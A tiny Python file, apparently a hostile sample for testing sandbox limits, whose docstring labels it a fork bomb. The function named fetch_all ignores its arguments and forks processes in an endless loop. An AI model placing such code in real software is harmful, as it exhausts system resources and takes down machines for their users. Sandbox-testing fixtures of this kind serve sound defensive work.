"""Hostile: a fork bomb (bounded by the process limit of the sandbox uid)."""

import os
import time


def fetch_all(urls, fetch):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
